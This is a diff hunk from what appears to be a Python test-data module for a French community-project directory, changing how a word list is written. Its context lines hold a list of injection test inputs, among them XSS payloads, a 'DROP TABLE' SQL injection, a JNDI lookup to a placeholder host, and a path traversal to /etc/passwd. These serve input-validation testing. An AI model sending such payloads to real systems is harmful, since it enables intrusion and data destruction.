@@ -23,9 +23,7 @@ KEYS = [f"{PARTNER}:shared-{i}" for i in range(6)]
 INJECTIONS = ["<script>alert('xss')</script>", "\"><img src=x onerror=alert(1)>", "'; DROP TABLE projects; --",
               "{{7*7}}", "${jndi:ldap://exemple.invalid/a}", "../../etc/passwd", "%00%0d%0aSet-Cookie: a=b",
               "javascript:alert(1)", "<svg/onload=alert(1)>", "' OR '1'='1", "\u202eevil", "𝓤𝓷𝓲𝓬𝓸𝓭𝓮 😀"]
-WORDS = ("jardin partagé épicerie solidaire ressourcerie fablab mobile covoiturage atelier vélo "
-         "grainothèque tiers-lieu cantine insertion numérique habitat inclusif recyclerie café "
-         "associatif bricothèque laverie repair boutique friperie maraîchage").split()
+WORDS = ["jardin", "partagé", "épicerie", "solidaire", "ressourcerie", "fablab", "mobile", "covoiturage", "atelier", "vélo", "grainothèque", "tiers-lieu", "cantine", "insertion", "numérique", "habitat", "inclusif", "recyclerie", "café", "associatif", "bricothèque", "laverie", "repair", "boutique", "friperie", "maraîchage"]
 TOWNS = [("Reims", "51100"), ("Roubaix", "59100"), ("Brest", "29200"), ("Dijon", "21000"), ("Tulle", "19000"),
          ("Angers", "49000"), ("Lyon", "69007"), ("Chirongui", "97620")]
 CONTROL = "".join(chr(c) for c in (0, 1, 7, 8, 11, 12, 27, 127))
